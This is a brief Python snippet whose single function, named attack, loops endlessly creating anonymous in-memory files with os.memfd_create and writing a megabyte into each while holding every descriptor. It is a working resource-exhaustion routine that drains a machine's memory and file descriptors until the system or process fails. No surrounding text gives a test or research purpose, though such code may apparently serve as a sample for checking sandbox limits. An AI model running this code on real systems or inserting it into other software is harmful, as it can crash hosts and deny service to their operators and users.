import os


def attack():
    taken = []
    while True:
        taken.append(os.memfd_create("held"))
        os.write(taken[-1], bytes(1 << 20))
